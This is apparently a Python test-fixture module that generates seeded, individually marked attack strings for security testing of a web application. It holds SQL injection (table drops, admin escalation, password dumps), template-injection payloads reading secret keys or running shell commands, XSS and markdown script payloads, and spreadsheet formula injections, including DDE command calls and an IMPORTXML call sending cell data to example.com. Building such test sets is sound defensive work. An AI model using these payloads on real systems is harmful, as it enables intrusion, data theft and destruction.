"""Texts that mean harm, each with a mark of its own by which it is found again. Seeded: the same each time."""

import random
from collections.abc import Sequence

FACTORS = (1337, 7919)
PRODUCT = str(FACTORS[0] * FACTORS[1])  # what a template engine that works would make of some of them
MARK = "hx"

SQL = (
    "' OR '1'='1",
    "' OR 1=1 -- {mark}",
    "{mark}' OR 'a'='a' /*",
    '" OR ""="',
    "'; DROP TABLE devices_device; -- {mark}",
    "'; UPDATE accounts_user SET role='admin'; -- {mark}",
    "'; DELETE FROM telemetry_reading; -- {mark}",
    "{mark}' UNION SELECT password FROM accounts_user -- ",
    "{mark}') UNION SELECT email,password,1 FROM accounts_user -- ",
    "{mark}' AND (SELECT COUNT(*) FROM sqlite_master) > 0 -- ",
    "{mark}' AND SLEEP(5) -- ",
    "{mark}'||(SELECT group_concat(password) FROM accounts_user)||'",
    "{mark}' AND extractvalue(1,concat(0x7e,version())) -- ",
    "{mark}%' ESCAPE '!' OR '%'='",
    "{mark}\\' OR 1=1 -- ",
    "{mark}\u02bc OR 1=1 -- ",
    "{mark}%bf%27 OR 1=1 -- ",
    "id; SELECT pg_sleep(5) -- {mark}",
    "-name, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END) -- {mark}",
    "name) OR 1=1 GROUP BY (1 -- {mark}",
    "{mark}' PROCEDURE ANALYSE(EXTRACTVALUE(1,1),1) -- ",
    "{mark}' INTO OUTFILE '/tmp/{mark}' -- ",
    "{mark}'; ATTACH DATABASE '/tmp/{mark}.db' AS x; -- ",
    "{mark}`; SELECT 1; `",
    "$where {mark} ' || 'a'=='a",
    "1 AND 1=CAST((SELECT password FROM accounts_user LIMIT 1) AS INTEGER) -- {mark}",
    "eyJpZCI6MX0' OR 1=1 -- {mark}",
)
_A, _B = FACTORS
TEMPLATE = (
    f"{{{{{_A}*{_B}}}}}" + " {mark}",
    f"${{{_A}*{_B}}}" + " {mark}",
    f"#{{{_A}*{_B}}}" + " {mark}",
    f"<%= {_A}*{_B} %>" + " {mark}",
    f"*{{{_A}*{_B}}}" + " {mark}",
    f"@({_A}*{_B})" + " {mark}",
    f"[[${{{_A}*{_B}}}]]" + " {mark}",
    f"{{% widthratio {_A} 1 {_B} %}}" + " {mark}",
    f"{{{{ {_A}|add:{_B} }}}}" + " {mark}",
    "{{ settings.SECRET_KEY }} {mark}",
    "{% debug %} {mark}",
    "{% load log %}{% get_admin_log 10 as l %}{{ l }} {mark}",
    "{% include '/etc/passwd' %} {mark}",
    "{{ request.user.password }} {mark}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {mark}",
    "{0.__class__.__init__.__globals__} {mark}",
    "%(settings)s %s %n %x {mark}",
    "{settings.SECRET_KEY} {mark}",
    "${{jndi:ldap://127.0.0.1/{mark}}}",
    "#set($x={_A}*{_B})$x {mark}",
    '{{#with "s" as |string|}}{{string.constructor}}{{/with}} {mark}',
    "{{constructor.constructor('return 1')()}} {mark}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} {mark}",
    "{% csrf_token %}{% url 'admin:index' %} {mark}",
)
MARKDOWN = (
    "<script>{mark}()</script>",
    "<img src=x onerror={mark}()>",
    '"><svg onload={mark}()>',
    "' onmouseover='{mark}()' x='",
    '" autofocus onfocus="{mark}()',
    "</title><script>{mark}()</script>",
    "</textarea><script>{mark}()</script>",
    "</script><script>{mark}()</script>",
    "<!--><script>{mark}()</script>-->",
    "<iframe srcdoc='<script>{mark}()</script>'></iframe>",
    "<object data='javascript:{mark}()'></object>",
    "<a href='javascript:{mark}()'>x</a>",
    "[x](javascript:{mark}())",
    "[x](JaVaScRiPt:{mark}())",
    "[x](data:text/html;base64,{mark})",
    "[x](vbscript:{mark}())",
    "[x](java\tscript:{mark}())",
    "![x](javascript:{mark}())",
    "![x](https://example.com/{mark}.png)",
    "[x]: javascript:{mark}()\n[x]",
    "<javascript:{mark}()>",
    '[x](https://example.com/"onmouseover="{mark}())',
    '[x](https://example.com "\\"onmouseover=\\"{mark}()")',
    "`<script>{mark}()</script>`",
    '```{mark}"onload="{mark}()\n<script>{mark}()</script>\n```',
    "<details open ontoggle={mark}()>",
    "&lt;script&gt;{mark}()&lt;/script&gt;",
    "&#106;avascript:{mark}()",
    "<style>@import '//example.com/{mark}'</style>",
    "<base href='//example.com/{mark}/'>",
    "<form action='//example.com/{mark}'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//example.com/{mark}'>",
    "<link rel=stylesheet href='//example.com/{mark}'>",
    "<math><mtext><script>{mark}()</script></mtext></math>",
    "\u202e<script>{mark}()</script>",
    "| a |\n|---|\n| <script>{mark}()</script> |",
)
FORMULA = (
    '=HYPERLINK("http://example.com/{mark}","x")',
    "=cmd|' /C calc'!A0 {mark}",
    "+{mark}+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0 {mark}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {mark}",
    "=1+1 {mark}",
    "＝1+1 {mark}",
    "＋1 {mark}",
    "－1 {mark}",
    "＠SUM(1) {mark}",
    "'=1+1 {mark}",
    "''=1+1 {mark}",
    '=IMPORTXML(CONCAT("http://example.com/{mark}",A1),"//a")',
    '=DDE("cmd";"/C calc";"{mark}")',
    '+1;=HYPERLINK("http://example.com/{mark}")',
    '"=1+1 {mark}"',
    "-{mark}",
    "@{mark}",
)


def drawn(pool: Sequence[str], rng: random.Random, count: int) -> list[str]:
    """So many different ones: every one of the pool in turn, each with its own mark."""
    order = list(pool)
    rng.shuffle(order)
    return [order[number % len(order)].replace("{mark}", new_mark(rng)) for number in range(count)]


def new_mark(rng: random.Random) -> str:
    return f"{MARK}{rng.randrange(36**6):09d}"
